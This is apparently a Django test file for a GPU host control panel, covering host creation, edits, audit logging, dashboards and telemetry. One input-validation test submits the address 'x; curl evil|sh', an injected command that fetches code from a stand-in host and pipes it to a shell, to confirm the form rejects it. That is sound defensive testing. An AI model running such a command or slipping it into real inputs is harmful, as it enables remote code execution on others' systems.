"""Host pages: create and edit through forms, bad input loses nothing, every change audited."""

from decimal import Decimal

import pytest
from django.urls import reverse

from controlpanel.models import AuditEntry
from hosts.models import Host
from tests.factories import make_deployment, make_gpu, make_host

pytestmark = pytest.mark.django_db


def test_operator_adds_a_host(client, operator):
    client.force_login(operator)
    response = client.post(
        reverse("hosts:create"),
        {
            "name": "gpu-new",
            "address": "10.0.0.9",
            "transport": "agent",
            "agent_tls": "on",  # an agent on another machine is reached over TLS
            "port": "",
            "agent_token": "s3cret-agent-token",
            "labels": "zone=a",
            "hourly_price": "4.20",
            "description": "",
        },
    )
    host = Host.objects.get(name="gpu-new")
    # A new host continues on its guided setup (tests/hosts/test_onboarding.py).
    assert response.status_code == 302
    assert response["Location"] == reverse("hosts:onboard", args=[host.pk])
    entry = AuditEntry.objects.get(action="host.create")
    assert entry.actor == operator and entry.after["address"] == "10.0.0.9"
    assert host.port == 9100 and host.agent_token == "s3cret-agent-token"
    assert "s3cret" not in str(entry.after)  # secrets never reach the audit log


def test_bad_input_is_explained_and_saves_nothing(client, operator):
    client.force_login(operator)
    response = client.post(
        reverse("hosts:create"),
        {
            "name": "bad",
            "address": "x; curl evil|sh",
            "transport": "ssh",
            "port": "99999",
            "labels": "",
            "hourly_price": "-1",
        },
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert "is not a host name or IP address" in page
    assert "Ensure this value is less than or equal to 65535" in page
    assert not Host.objects.filter(name="bad").exists()
    assert not AuditEntry.objects.exists()


def test_edit_records_before_and_after(client, operator):
    host = make_host(name="edit-me", port=9100)
    client.force_login(operator)
    client.post(
        reverse("hosts:edit", args=[host.pk]),
        {
            "name": "edit-me",
            "address": host.address,
            "transport": "agent",
            "port": "9100",
            "labels": "zone=test",
            "hourly_price": "2.50",
            "description": "rack 7",
        },
    )
    # (A new port is a new destination: the token must be typed again, see test_host_trust.)
    entry = AuditEntry.objects.get(action="host.update")
    assert entry.before["description"] == "" and entry.after["description"] == "rack 7"
    assert entry.changed_fields == ["description"]
    host.refresh_from_db()
    assert host.agent_token == "test-token"  # an empty secret field keeps the stored one


def test_detail_shows_gpus_deployments_and_live_socket(client, viewer):
    host = make_host(name="detail-host")
    make_gpu(host, name="NVIDIA L40S")
    make_deployment(host, name="chat-engine")
    client.force_login(viewer)
    page = client.get(reverse("hosts:detail", args=[host.pk])).content.decode()
    assert "NVIDIA L40S" in page and "chat-engine" in page
    assert f'data-live-socket="/ws/hosts/{host.pk}/"' in page
    assert "Test connection" not in page  # a viewer gets no button it cannot use


def test_dashboard_summarises_the_fleet(client, viewer):
    host = make_host(hourly_price="3.00")
    make_gpu(host)
    make_gpu(host)
    client.force_login(viewer)
    response = client.get(reverse("dashboard"))
    assert response.context["gpu_count"] == 2
    assert response.context["fleet_hourly"] == Decimal("3")
    used, free = response.context["chart"]["data"]
    assert used["x"] == [host.name] and used["y"] == [0.0] and free["y"] == [160.0]
    assert 'id="gpu-memory-chart-data"' in response.content.decode()


def test_telemetry_backfill_returns_samples_after_since(client, viewer):
    from datetime import timedelta

    from django.utils import timezone

    from hosts.models import GpuSample

    host = make_host()
    gpu = make_gpu(host)
    now = timezone.now()
    for seconds in (30, 20, 10):
        GpuSample.objects.create(gpu=gpu, time=now - timedelta(seconds=seconds), power_w=seconds)
    client.force_login(viewer)
    url = reverse("hosts:telemetry", args=[host.pk])
    since = int((now - timedelta(seconds=25)).timestamp() * 1000)
    data = client.get(url, {"since": since}).json()["gpus"][str(gpu.pk)]
    assert data["power_w"] == [20, 10] and len(data["t"]) == 2
    assert client.get(url, {"since": "yesterday"}).status_code == 400


def test_operation_page_shows_the_engines_own_error(client, viewer):
    from hosts.models import EngineOperation
    from tests.factories import make_config

    deployment = make_deployment()
    operation = EngineOperation.objects.create(
        deployment=deployment,
        kind="apply",
        config=make_config(deployment),
        status="failed",
        outcome="rolled_back",
        engine_log="ValueError: No available memory for the cache blocks.",
        log="17:01:02 applying v1\n",
    )
    client.force_login(viewer)
    page = client.get(reverse("hosts:operation", args=[operation.pk])).content.decode()
    assert "Rolled back" in page and "No available memory for the cache blocks" in page
